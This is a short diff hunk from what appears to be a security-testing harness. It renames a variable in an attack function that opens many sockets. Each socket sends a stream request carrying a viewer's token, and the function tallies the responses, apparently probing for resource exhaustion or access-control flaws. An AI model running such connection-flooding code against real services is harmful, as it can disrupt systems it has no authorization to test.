@@ -14,13 +14,13 @@ PATH = "/api/v1/jobs/digits-1/streams/run?wait_s=60"
 
 def attack(target: Target) -> str:
     """Follow with the token of a viewer, and be gone."""
-    asked = request("GET", PATH, token=target.tokens["eve"])
+    wanted = request("GET", PATH, token=target.tokens["eve"])
     began = time.monotonic()
     sockets: list[socket.socket] = []
     for _ in range(NUM):
         with contextlib.suppress(OSError):
             sockets.append(connected(target.where))
-            sockets[-1].sendall(asked)
+            sockets[-1].sendall(wanted)
     opened_s = time.monotonic() - began
     time.sleep(5.0)
     lines = Counter(first_line(each, 0.001) for each in sockets)
